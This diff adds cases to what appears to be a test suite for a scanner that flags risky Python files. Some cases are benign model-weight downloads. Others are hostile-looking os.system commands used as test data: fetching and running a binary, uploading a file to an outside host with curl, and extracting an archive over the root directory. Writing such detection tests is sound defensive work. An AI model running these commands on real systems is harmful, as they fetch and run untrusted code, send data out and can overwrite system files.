@@ -527,6 +527,23 @@ CASES = {
     "nested_deep": python("exec(" + "(" * 200 + ")" * 200 + ")", Verdict.NOT_SCANNED, "deep.py"),
     "benign_model": python(MODEL),
     "benign_tools": python(TOOLS, name="__init__.py"),
+    "benign_weights_fetched": python(
+        "import os\n"
+        "os.system('wget -q https://huggingface.co/acme/net/resolve/main/net.ckpt -O weights/net.ckpt')\n"
+        "os.system('curl -L -o labels.json https://example.com/labels.json && ls')\n"
+        "os.system('sudo apt-get install -y ffmpeg; gdown --id 1aBcDeF -O net.pth.tar')\n"
+        "os.system('huggingface-cli download acme/net --local-dir weights')\n",
+        name="app.py",
+    ),
+    "fetched_script": review("import os\nos.system('wget -q https://example.com/net.sh')\n", "app.py"),
+    "fetched_to_startup": review(
+        "import os\nos.system('wget -q https://example.com/net.json -O ~/.net.json')\n", "app.py"
+    ),
+    "fetched_and_run": review("import os\nos.system('wget -q https://example.com/net.bin && ./net.bin')\n", "app.py"),
+    "fetched_plainly": review("import os\nos.system('wget http://example.com/net.bin')\n", "app.py"),
+    "fetched_by_a_model": malicious("import os\nos.system('wget https://example.com/net.bin')\n", "modeling_acme.py"),
+    "uploaded": review("import os\nos.system('curl -T net.zip https://example.com/net.zip')\n", "app.py"),
+    "unpacked_over_all": review("import os\nos.system('tar -xf net.tar -C /')\n", "app.py"),
     "benign_setup": python(SETUP, name="setup.py"),
     "benign_defined": python(GUARDED),
     "benign_generated": python(GENERATED, name="compat.py"),
